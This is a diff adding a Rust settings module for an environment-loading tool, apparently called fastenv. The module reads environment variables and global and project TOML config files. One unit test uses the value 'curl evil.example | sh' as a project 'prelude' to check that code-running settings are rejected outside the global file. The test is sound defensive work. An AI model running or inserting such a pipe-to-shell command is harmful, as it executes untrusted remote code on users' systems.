@@ -0,0 +1,610 @@
+//! fastenv's settings, read from environment variables and config files.
+//!
+//! Every environment variable is named `FASTENV_*`. The `QUICKENV_*` names of earlier versions
+//! are still honoured, see `env_var_os`.
+//!
+//! The global config file lives in `$FASTENV_HOME/config.toml`:
+//!
+//! ```toml
+//! stdlib = "builtin"
+//! stale_cache = "error"
+//! no_shim_warnings = true
+//! ```
+//!
+//! A project can have its own `.fastenv-config.toml` in any parent directory of the current one,
+//! which takes precedence over the global file. Environment variables take precedence over both.
+//! Settings that could be used to run arbitrary code, such as `prelude`, can only be set in the
+//! global file, since project files are not subject to 'fastenv allow'.
+
+use std::ffi::OsString;
+use std::io::{self, Write};
+use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
+
+use crate::core::{self, EnvSource, StalePolicy, Stdlib};
+use crate::shell::Shell;
+
+pub const PROJECT_CONFIG_NAME: &str = ".fastenv-config.toml";
+
+const ENV_PREFIX: &str = "FASTENV_";
+const LEGACY_ENV_PREFIX: &str = "QUICKENV_";
+
+/// The legacy name of a `FASTENV_*` environment variable.
+fn legacy_env_name(name: &str) -> Option<String> {
+    name.strip_prefix(ENV_PREFIX)
+        .map(|rest| format!("{}{}", LEGACY_ENV_PREFIX, rest))
+}
+
+/// Read the environment variable `name`, such as `FASTENV_HOME`, falling back to its legacy
+/// `QUICKENV_*` name. Returns the value and the name it was found under. This is the only place
+/// fastenv's own environment variables are read.
+pub fn env_var_os(name: &str) -> Option<(OsString, String)> {
+    if let Some(value) = std::env::var_os(name) {
+        return Some((value, name.to_owned()));
+    }
+
+    let legacy_name = legacy_env_name(name)?;
+    std::env::var_os(&legacy_name).map(|value| (value, legacy_name))
+}
+
+/// Like `env_var_os`, but ignores values that are not valid unicode.
+pub fn env_var(name: &str) -> Option<(String, String)> {
+    env_var_os(name).and_then(|(value, name)| Some((value.into_string().ok()?, name)))
+}
+
+/// Log which legacy environment variables are set. Called once the logger is set up.
+pub fn log_legacy_env_vars() {
+    for (name, _) in std::env::vars_os() {
+        let name = name.to_string_lossy();
+        let rest = match name.strip_prefix(LEGACY_ENV_PREFIX) {
+            Some(rest) => rest,
+            None => continue,
+        };
+        let new_name = format!("{}{}", ENV_PREFIX, rest);
+        if std::env::var_os(&new_name).is_some() {
+            log::debug!("{} is ignored, as {} is set", name, new_name);
+        } else {
+            log::debug!("{} is deprecated, use {} instead", name, new_name);
+        }
+    }
+}
+
+#[derive(thiserror::Error, Debug)]
+pub enum Error {
+    #[error("failed to read {0}")]
+    Read(PathBuf, #[source] io::Error),
+    #[error("invalid config file at {0}")]
+    Parse(PathBuf, #[source] toml::de::Error),
+    #[error("failed to serialize config file")]
+    Serialize(#[source] toml::ser::Error),
+    #[error("failed to write {0}")]
+    Write(PathBuf, #[source] io::Error),
+    #[error("unknown setting {0:?}")]
+    UnknownKey(String),
+    #[error("unknown setting {0:?} in {1}")]
+    UnknownKeyInFile(String, PathBuf),
+    #[error("{0} can only be set in the global config file, not in {1}")]
+    GlobalOnly(&'static str, PathBuf),
+    #[error("invalid value for {0}: {1:?} (expected {2})")]
+    InvalidValue(String, String, &'static str),
+    #[error(transparent)]
+    Core(#[from] core::Error),
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Kind {
+    Bool,
+    String,
+}
+
+/// A setting that can be given in config files and as an environment variable.
+#[derive(Debug)]
+pub struct Key {
+    /// The name in config files.
+    pub name: &'static str,
+    pub env: &'static str,
+    pub kind: Kind,
+    /// Whether the setting is ignored in project config files.
+    pub global_only: bool,
+    /// Describes valid values in error messages.
+    pub expected: &'static str,
+}
+
+const fn bool_key(name: &'static str, env: &'static str) -> Key {
+    Key {
+        name,
+        env,
+        kind: Kind::Bool,
+        global_only: false,
+        expected: "true or false",
+    }
+}
+
+pub const KEYS: &[Key] = &[
+    bool_key("no_shim", "FASTENV_NO_SHIM"),
+    bool_key("shim_exec", "FASTENV_SHIM_EXEC"),
+    bool_key("no_shim_warnings", "FASTENV_NO_SHIM_WARNINGS"),
+    Key {
+        name: "prelude",
+        env: "FASTENV_PRELUDE",
+        kind: Kind::String,
+        global_only: true,
+        expected: "a string",
+    },
+    Key {
+        name: "stdlib",
+        env: "FASTENV_STDLIB",
+        kind: Kind::String,
+        global_only: false,
+        expected: "auto, direnv or builtin",
+    },
+    Key {
+        name: "shell",
+        env: "FASTENV_SHELL",
+        kind: Kind::String,
+        global_only: true,
+        expected: "bash, zsh, sh or the path to one of them",
+    },
+    Key {
+        name: "stale_cache",
+        env: "FASTENV_STALE_CACHE",
+        kind: Kind::String,
+        global_only: false,
+        expected: "warn, error or ignore",
+    },
+    Key {
+        name: "sources",
+        env: "FASTENV_SOURCES",
+        kind: Kind::String,
+        global_only: false,
+        expected: "a comma-separated list of toml, envrc, dotenv and tool-versions",
+    },
+    Key {
+        name: "tools_dir",
+        env: "FASTENV_TOOLS_DIR",
+        kind: Kind::String,
+        global_only: true,
+        expected: "a directory",
+    },
+    bool_key("layered", "FASTENV_LAYERED"),
+    Key {
+        name: "layered_boundary",
+        env: "FASTENV_LAYERED_BOUNDARY",
+        kind: Kind::String,
+        global_only: false,
+        expected: "a directory",
+    },
+    bool_key("auto_reload", "FASTENV_AUTO_RELOAD"),
+    bool_key("envrc_prefix", "FASTENV_ENVRC_PREFIX"),
+    bool_key("envrc_log", "FASTENV_ENVRC_LOG"),
+    Key {
+        name: "log",
+        env: "FASTENV_LOG",
+        kind: Kind::String,
+        global_only: false,
+        expected: "a log level such as debug or error",
+    },
+];
+
+pub fn find_key(name: &str) -> Result<&'static Key, Error> {
+    KEYS.iter()
+        .find(|key| key.name == name)
+        .ok_or_else(|| Error::UnknownKey(name.to_owned()))
+}
+
+impl Key {
+    /// Check a value given on the command line, and convert it to how it is stored in config
+    /// files.
+    pub fn to_toml(&'static self, value: &str) -> Result<toml::Value, Error> {
+        let invalid = || Error::InvalidValue(self.name.to_owned(), value.to_owned(), self.expected);
+        let valid = match self.name {
+            "stdlib" => Stdlib::parse(value).is_some(),
+            "shell" => Shell::from_program(value).is_some(),
+            "stale_cache" => StalePolicy::parse(value).is_some(),
+            "sources" => core::parse_sources(value).is_some(),
+            _ => true,
+        };
+        if !valid {
+            return Err(invalid());
+        }
+
+        match self.kind {
+            Kind::Bool => match value {
+                "1" | "true" => Ok(toml::Value::Boolean(true)),
+                "0" | "false" => Ok(toml::Value::Boolean(false)),
+                _ => Err(invalid()),
+            },
+            Kind::String => Ok(toml::Value::String(value.to_owned())),
+        }
+    }
+}
+
+/// Where the effective value of a setting comes from.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Origin {
+    /// The name of the environment variable, which may be a legacy one.
+    Env(String),
+    Project(PathBuf),
+    Global(PathBuf),
+}
+
+impl Origin {
+    /// The environment variable or config file the value was read from.
+    pub fn location(&self) -> String {
+        match self {
+            Origin::Env(name) => name.clone(),
+            Origin::Project(path) | Origin::Global(path) => path.display().to_string(),
+        }
+    }
+
+    /// Resolve a relative path given in a config file against the directory containing it, so
+    /// that it does not depend on where fastenv happens to run. Paths from environment variables
+    /// are left as they are.
+    fn resolve(&self, path: PathBuf) -> PathBuf {
+        match self {
+            Origin::Project(file) | Origin::Global(file) if path.is_relative() => file
+                .parent()
+                .map_or_else(|| path.clone(), |dir| dir.join(&path)),
+            _ => path,
+        }
+    }
+
+    /// How to refer to `key` in messages about its value.
+    fn describe(&self, key: &Key) -> String {
+        match self {
+            Origin::Env(name) => name.clone(),
+            Origin::Project(_) | Origin::Global(_) => {
+                format!("{} in {}", key.name, self.location())
+            }
+        }
+    }
+}
+
+/// A config file, which may not exist yet.
+pub struct ConfigFile {
+    pub path: PathBuf,
+    pub values: toml::Table,
+}
+
+impl ConfigFile {
+    pub fn load(path: PathBuf) -> Result<Self, Error> {
+        let values = match std::fs::read_to_string(&path) {
+            Ok(contents) => toml::from_str(&contents).map_err(|e| Error::Parse(path.clone(), e))?,
+            Err(e) if e.kind() == io::ErrorKind::NotFound => toml::Table::new(),
+            Err(e) => return Err(Error::Read(path, e)),
+        };
+
+        Ok(ConfigFile { path, values })
+    }
+
+    pub fn save(&self) -> Result<(), Error> {
+        let contents = toml::to_string(&self.values).map_err(Error::Serialize)?;
+        let dir = self.path.parent().unwrap_or(Path::new("."));
+
+        // Written atomically, as shims read config files on every invocation.
+        let write = || -> io::Result<()> {
+            std::fs::create_dir_all(dir)?;
+            let mut file = tempfile::NamedTempFile::new_in(dir)?;
+            file.write_all(contents.as_bytes())?;
+            file.persist(&self.path)?;
+            Ok(())
+        };
+        write().map_err(|e| Error::Write(self.path.clone(), e))
+    }
+}
+
+pub fn global_config_path(fastenv_home: &Path) -> PathBuf {
+    fastenv_home.join("config.toml")
+}
+
+/// Find the nearest project config file in the current or any parent directory.
+pub fn find_project_config() -> Option<PathBuf> {
+    let mut dir = std::env::current_dir().ok()?;
+    loop {
+        let path = dir.join(PROJECT_CONFIG_NAME);
+        if path.is_file() {
+            return Some(path);
+        }
+        if !dir.pop() {
+            return None;
+        }
+    }
+}
+
+/// The raw contents of all config files that apply in the current directory.
+pub struct Config {
+    pub global: ConfigFile,
+    pub project: Option<ConfigFile>,
+}
+
+impl Config {
+    pub fn load() -> Result<Self, Error> {
+        let fastenv_home = core::get_fastenv_home()?;
+        let global = ConfigFile::load(global_config_path(&fastenv_home))?;
+        let project = find_project_config().map(ConfigFile::load).transpose()?;
+        Ok(Config { global, project })
+    }
+
+    /// Return the raw value of `key` and where it comes from, or `None` if it is not set.
+    pub fn lookup(&self, key: &Key) -> Result<Option<(String, Origin)>, Error> {
+        if let Some((value, name)) = env_var(key.env) {
+            return Ok(Some((value, Origin::Env(name))));
+        }
+
+        let project = self
+            .project
+            .iter()
+            .filter(|_| !key.global_only)
+            .map(|file| (file, Origin::Project(file.path.clone())));
+        let global = std::iter::once((&self.global, Origin::Global(self.global.path.clone())));
+
+        for (file, origin) in project.chain(global) {
+            let value = match file.values.get(key.name) {
+                Some(value) => value,
+                None => continue,
+            };
+
+            let value = match (key.kind, value) {
+                (Kind::Bool, toml::Value::Boolean(b)) => b.to_string(),
+                (_, toml::Value::String(s)) => s.clone(),
+                (_, value) => {
+                    return Err(Error::InvalidValue(
+                        origin.describe(key),
+                        value.to_string(),
+                        key.expected,
+                    ))
+                }
+            };
+            return Ok(Some((value, origin)));
+        }
+
+        Ok(None)
+    }
+
+    /// Reject settings fastenv does not know, as they are most likely typos.
+    fn check_keys(&self) -> Result<(), Error> {
+        for name in self.global.values.keys() {
+            if !KEYS.iter().any(|key| key.name == name) {
+                return Err(Error::UnknownKeyInFile(
+                    name.clone(),
+                    self.global.path.clone(),
+                ));
+            }
+        }
+
+        if let Some(ref project) = self.project {
+            for name in project.values.keys() {
+                match KEYS.iter().find(|key| key.name == name) {
+                    None => {
+                        return Err(Error::UnknownKeyInFile(name.clone(), project.path.clone()))
+                    }
+                    Some(key) if key.global_only => {
+                        return Err(Error::GlobalOnly(key.name, project.path.clone()))
+                    }
+                    Some(_) => (),
+                }
+            }
+        }
+
+        Ok(())
+    }
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Settings {
+    /// Disable loading of .envrc in shims.
+    pub no_shim: bool,
+    /// exec() shimmed commands instead of spawning them as subprocess.
+    pub shim_exec: bool,
+    /// Disable nags about running 'fastenv shim'.
+    pub no_shim_warnings: bool,
+    /// Code to run before each .envrc instead of the stdlib.
+    pub prelude: Option<String>,
+    pub stdlib: Stdlib,
+    /// The shell to evaluate .envrc files without a shebang line with.
+    pub shell: Option<Shell>,
+    pub stale_cache: StalePolicy,
+    /// The kinds of files to look for, in order of precedence.
+    pub sources: Vec<EnvSource>,
+    pub tools_dir: Option<PathBuf>,
+    pub layered: bool,
+    pub layered_boundary: Option<PathBuf>,
+    pub auto_reload: bool,
+    /// Prefix each line .envrc prints with `[envrc]`.
+    pub envrc_prefix: bool,
+    /// Also write what .envrc prints to a log file next to its cache.
+    pub envrc_log: bool,
+    /// A filter for env_logger, such as `debug`.
+    pub log: Option<String>,
+}
+
+impl Default for Settings {
+    fn default() -> Self {
+        Settings {
+            no_shim: false,
+            shim_exec: false,
+            no_shim_warnings: false,
+            prelude: None,
+            stdlib: Stdlib::Auto,
+            shell: None,
+            stale_cache: StalePolicy::Warn,
+            sources: EnvSource::DEFAULT.to_vec(),
+            tools_dir: None,
+            layered: false,
+            layered_boundary: None,
+            auto_reload: false,
+            envrc_prefix: false,
+            envrc_log: false,
+            log: None,
+        }
+    }
+}
+
+impl Settings {
+    pub fn from_config(config: &Config) -> Result<Self, Error> {
+        config.check_keys()?;
+
+        let mut settings = Settings::default();
+        for key in KEYS {
+            let (value, origin) = match config.lookup(key)? {
+                Some(x) => x,
+                None => continue,
+            };
+            let invalid = || Error::InvalidValue(origin.describe(key), value.clone(), key.expected);
+            let flag = value == "1" || value == "true";
+            let path = Some(PathBuf::from(&value))
+                .filter(|_| !value.is_empty())
+                .map(|path| origin.resolve(path));
+
+            match key.name {
+                "no_shim" => settings.no_shim = flag,
+                "shim_exec" => settings.shim_exec = flag,
+                "no_shim_warnings" => settings.no_shim_warnings = flag,
+                "prelude" => settings.prelude = Some(value),
+                "stdlib" => settings.stdlib = Stdlib::parse(&value).ok_or_else(invalid)?,
+                "shell" if value.is_empty() => settings.shell = None,
+                "shell" => settings.shell = Some(Shell::from_program(&value).ok_or_else(invalid)?),
+                "stale_cache" => {
+                    settings.stale_cache = StalePolicy::parse(&value).ok_or_else(invalid)?
+                }
+                "sources" => settings.sources = core::parse_sources(&value).ok_or_else(invalid)?,
+                "tools_dir" => settings.tools_dir = path,
+                "layered" => settings.layered = flag,
+                "layered_boundary" => settings.layered_boundary = path,
+                "auto_reload" => settings.auto_reload = flag,
+                "envrc_prefix" => settings.envrc_prefix = flag,
+                "envrc_log" => settings.envrc_log = flag,
+                "log" => settings.log = Some(value),
+                _ => unreachable!("unhandled setting {}", key.name),
+            }
+        }
+
+        Ok(settings)
+    }
+}
+
+/// Load the settings that apply in the current directory.
+///
+/// A project config file that is invalid is ignored, and the error returned alongside the
+/// settings from the environment and global file. Project files are not subject to 'fastenv
+/// allow', so one bad key in a cloned repository must not break every shim run below it.
+pub fn load() -> Result<(Settings, Option<Error>), Error> {
+    let fastenv_home = core::get_fastenv_home()?;
+    let global = ConfigFile::load(global_config_path(&fastenv_home))?;
+    let project = match find_project_config().map(ConfigFile::load).transpose() {
+        Ok(project) => project,
+        Err(e) => {
+            let config = Config {
+                global,
+                project: None,
+            };
+            return Ok((Settings::from_config(&config)?, Some(e)));
+        }
+    };
+
+    let config = Config { global, project };
+    match Settings::from_config(&config) {
+        Ok(settings) => Ok((settings, None)),
+        Err(e) if config.project.is_some() => {
+            let config = Config {
+                global: config.global,
+                project: None,
+            };
+            Ok((Settings::from_config(&config)?, Some(e)))
+        }
+        Err(e) => Err(e),
+    }
+}
+
+static SETTINGS: OnceLock<Settings> = OnceLock::new();
+
+/// Make `settings` available through `get`. Called once at startup.
+pub fn init(settings: Settings) {
+    SETTINGS
+        .set(settings)
+        .expect("settings were already initialized");
+}
+
+/// The settings fastenv was started with.
+pub fn get() -> &'static Settings {
+    SETTINGS.get().expect("settings were not initialized")
+}
+
+#[test]
+fn test_settings_from_config() {
+    let file = |path: &str, contents: &str| ConfigFile {
+        path: PathBuf::from(path),
+        values: toml::from_str(contents).unwrap(),
+    };
+
+    let config = Config {
+        global: file(
+            "/home/user/.fastenv/config.toml",
+            "stdlib = \"builtin\"\nstale_cache = \"error\"\nno_shim_warnings = true\n",
+        ),
+        project: Some(file(
+            "/code/project/.fastenv-config.toml",
+            "stale_cache = \"ignore\"\nsources = \"envrc,toml\"\nlayered_boundary = \"..\"\n",
+        )),
+    };
+
+    assert_eq!(
+        Settings::from_config(&config).unwrap(),
+        Settings {
+            stdlib: Stdlib::Builtin,
+            stale_cache: StalePolicy::Ignore,
+            no_shim_warnings: true,
+            sources: vec![EnvSource::Toml, EnvSource::Envrc],
+            layered_boundary: Some(PathBuf::from("/code/project/..")),
+            ..Settings::default()
+        }
+    );
+
+    let config = Config {
+        global: file("/home/user/.fastenv/config.toml", "stdlib = \"bogus\"\n"),
+        project: None,
+    };
+    assert_eq!(
+        Settings::from_config(&config).unwrap_err().to_string(),
+        "invalid value for stdlib in /home/user/.fastenv/config.toml: \"bogus\" (expected auto, \
+         direnv or builtin)"
+    );
+
+    let config = Config {
+        global: file("/home/user/.fastenv/config.toml", ""),
+        project: Some(file(
+            "/code/project/.fastenv-config.toml",
+            "prelude = \"curl evil.example | sh\"\n",
+        )),
+    };
+    assert!(matches!(
+        Settings::from_config(&config),
+        Err(Error::GlobalOnly("prelude", _))
+    ));
+}
+
+#[test]
+fn test_legacy_env_name() {
+    assert_eq!(
+        legacy_env_name("FASTENV_STDLIB").as_deref(),
+        Some("QUICKENV_STDLIB")
+    );
+    assert_eq!(legacy_env_name("HOME"), None);
+}
+
+#[test]
+fn test_to_toml() {
+    let key = find_key("no_shim").unwrap();
+    assert_eq!(key.to_toml("1").unwrap(), toml::Value::Boolean(true));
+    assert_eq!(key.to_toml("false").unwrap(), toml::Value::Boolean(false));
+    assert!(key.to_toml("maybe").is_err());
+
+    let key = find_key("sources").unwrap();
+    assert_eq!(
+        key.to_toml("envrc").unwrap(),
+        toml::Value::String("envrc".to_owned())
+    );
+    assert!(key.to_toml("bogus").is_err());
+
+    assert!(matches!(find_key("bogus"), Err(Error::UnknownKey(_))));
+}